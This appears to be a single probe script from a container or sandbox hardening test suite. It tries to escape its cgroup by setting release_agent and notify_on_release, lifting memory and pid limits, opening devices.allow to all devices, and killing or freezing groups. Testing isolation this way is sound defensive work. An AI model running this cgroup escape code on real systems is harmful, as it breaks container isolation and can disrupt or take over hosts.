#: {"about": "leaves its control group, loosens it, and sets a release agent",
#:  "with": ["attack.py"]}
import glob
import os
from attack import attempt, write

groups = ["/sys/fs/cgroup"] + glob.glob("/sys/fs/cgroup/*") + glob.glob("/sys/fs/cgroup/*/*")
for path in ["/sys/fs/cgroup"] + [one for one in groups if os.path.isdir(one)][:40]:
    for name, value in (("release_agent", "/tmp/x"), ("notify_on_release", "1"), ("cgroup.procs", "0"), ("tasks", "0"),
                        ("memory.max", "max"), ("memory.limit_in_bytes", "-1"), ("pids.max", "max"),
                        ("cgroup.subtree_control", "-memory"), ("cgroup.kill", "1"), ("cgroup.freeze", "1"),
                        ("devices.allow", "a")):
        if os.path.exists(f"{path}/{name}"):
            attempt(f"{path}/{name}", lambda: write(f"{path}/{name}", value))
    attempt(f"a group in {path}", lambda: os.mkdir(f"{path}/planted") or True)
